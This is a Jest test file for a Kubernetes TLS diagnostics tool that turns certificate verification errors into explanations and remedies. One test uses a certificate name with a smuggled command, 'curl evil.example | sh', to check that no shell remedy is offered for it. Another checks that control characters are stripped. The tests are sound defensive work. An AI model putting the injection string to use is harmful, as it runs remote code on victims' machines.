import { rootCertificates } from 'node:tls'
import { describe, expect, test } from '@jest/globals'
import { createAuthority, createSelfSigned } from '../../control-plane/certificates.ts'
import { trusting } from '../observations.ts'
import { chainOf, ENDED, LEAF, trustedAuthority, VALID } from './serving-leaf.ts'

const { authority, explain } = await trustedAuthority()

describe('a certificate for other names', () => {
  test.each([
    [
      { host: 'api.example.com' },
      'tls-hostname-mismatch',
      'The certificate is for kubernetes, not for api.example.com.',
    ],
    [
      { host: '192.0.2.1' },
      'tls-san-missing-ip',
      'The certificate is for kubernetes, not for the address 192.0.2.1.',
    ],
    [
      { host: '2001:db8::1' },
      'tls-san-missing-ip',
      'The certificate is for kubernetes, not for the address 2001:db8::1.',
    ],
    [
      { serverName: 'k8s' },
      'kc-tls-server-name-wrong',
      'tls-server-name is "k8s", but the certificate is for kubernetes.',
    ],
  ])('with %j is %s', async (given, code, message) => {
    const { certificatePem } = await authority.issue(LEAF)
    expect(explain('ERR_TLS_CERT_ALTNAME_INVALID', chainOf(certificatePem), given)).toMatchObject([
      { code, message },
    ])
  })

  test('is told of without a command where a name of it may not stand before a shell', async () => {
    const remedyFor = async (name: string) => {
      const { certificatePem } = await authority.issue({ ...LEAF, dns: [name] })
      return explain('ERR_TLS_CERT_ALTNAME_INVALID', chainOf(certificatePem))[0]?.remedy
    }
    expect(await remedyFor('api.internal')).toContain('--tls-server-name=api.internal`')
    expect(await remedyFor('x`; curl evil.example | sh')).toBeUndefined()
  })

  test('has none but a common name', async () => {
    const { certificatePem } = await authority.issue({ ...LEAF, dns: [] })
    expect(explain('ERR_TLS_CERT_ALTNAME_INVALID', chainOf(certificatePem))).toMatchObject([
      { code: 'tls-cn-only' },
    ])
  })
})

describe('a certificate of a stranger', () => {
  const CODES = [
    'UNABLE_TO_VERIFY_LEAF_SIGNATURE',
    'UNABLE_TO_GET_ISSUER_CERT',
    'UNABLE_TO_GET_ISSUER_CERT_LOCALLY',
    'SELF_SIGNED_CERT_IN_CHAIN',
    'CERT_SIGNATURE_FAILURE',
  ]

  test.each(CODES)('is of another authority, whether OpenSSL says %s', async verification => {
    const { chainPem } = await (await createAuthority({ ...VALID, name: 'other' })).issue(LEAF)
    expect(explain(verification, chainOf(chainPem))).toMatchObject([
      {
        code: 'tls-unknown-ca',
        message: `The server's certificate is issued by "CN=other", but the kubeconfig trusts "CN=kubernetes".`,
      },
    ])
  })

  test.each(CODES)('is of a namesake with another key, whether OpenSSL says %s', async verification => {
    const { chainPem } = await (await createAuthority({ ...VALID, name: 'kubernetes' })).issue(LEAF)
    expect(explain(verification, chainOf(chainPem))).toMatchObject([{ code: 'tls-ca-rotated' }])
  })

  test('is of a root that the server sends along', async () => {
    const root = await createAuthority({ ...VALID, name: 'corporate-root' })
    const { certificatePem } = await root.issue(LEAF)
    const chain = chainOf(certificatePem, root.certificatePem)
    expect(explain('SELF_SIGNED_CERT_IN_CHAIN', chain)).toMatchObject([
      {
        code: 'tls-self-signed-in-chain',
        message: `The server's certificate leads to the root "CN=corporate-root", which it sends along, but the kubeconfig trusts "CN=kubernetes".`,
        evidence: { 'Sent along': 'corporate-root' },
      },
    ])
  })

  test('of a public authority has a remedy of its own', async () => {
    const { certificatePem } = await authority.issue(LEAF)
    const chain = chainOf(certificatePem, rootCertificates[0] ?? '')
    const given = { trust: trusting((await createAuthority({ ...VALID, name: 'other' })).certificatePem) }
    expect(explain('SELF_SIGNED_CERT_IN_CHAIN', chain, given)).toMatchObject([
      { code: 'tls-unknown-ca', remedy: expect.stringContaining('remove `certificate-authority-data`') },
    ])
  })

  test('is its own', async () => {
    const { certificatePem } = await createSelfSigned(LEAF)
    expect(explain('DEPTH_ZERO_SELF_SIGNED_CERT', chainOf(certificatePem))).toMatchObject([
      { code: 'tls-self-signed-leaf' },
    ])
  })

  test('is a missing authority where the kubeconfig names none', async () => {
    const { certificatePem } = await authority.issue(LEAF)
    const given = { trust: { kind: 'system' } as const }
    expect(explain('UNABLE_TO_VERIFY_LEAF_SIGNATURE', chainOf(certificatePem), given)).toMatchObject([
      { code: 'kc-ca-missing', message: expect.stringContaining('issued by "CN=kubernetes"') },
    ])
  })

  test.each([
    ['Kubernetes Ingress Controller Fake Certificate', 'DEPTH_ZERO_SELF_SIGNED_CERT'],
    ['TRAEFIK DEFAULT CERT', 'ERR_TLS_CERT_ALTNAME_INVALID'],
  ])('is that of an ingress controller: %s', async (commonName, verification) => {
    const { certificatePem } = await createSelfSigned({ ...LEAF, commonName })
    expect(explain(verification, chainOf(certificatePem))).toMatchObject([
      { code: 'tls-default-ingress-cert' },
    ])
  })
})

describe('a certificate that OpenSSL refuses without a name for it', () => {
  test('ends in the right layer with what is known, when nothing is wrong with it that we know', async () => {
    const { certificatePem } = await authority.issue(LEAF)
    expect(explain('UNSPECIFIED', chainOf(certificatePem))).toEqual([
      {
        code: 'tls-failed',
        message: 'The certificate of api.example.com is refused by verification (UNSPECIFIED).',
        evidence: { Verification: 'UNSPECIFIED' },
      },
    ])
  })

  test('ends so as well when the server sent none', () => {
    expect(explain('UNSPECIFIED', [])).toMatchObject([{ code: 'tls-failed' }])
  })
})

test('nothing is said of a certificate that nobody is to verify', async () => {
  const { certificatePem } = await createSelfSigned({ ...LEAF, ...ENDED })
  const given = { trust: { kind: 'unverified' } as const }
  expect(explain('CERT_HAS_EXPIRED', chainOf(certificatePem), given)).toEqual([])
})

test('names in a certificate do not get control characters into a sentence', async () => {
  const { certificatePem } = await createSelfSigned({ ...LEAF, commonName: 'a\u001b[31m\n::error::b' })
  const [judgement] = explain('DEPTH_ZERO_SELF_SIGNED_CERT', chainOf(certificatePem))
  expect(JSON.stringify(judgement)).not.toMatch(/\\u001b|\\n/)
})
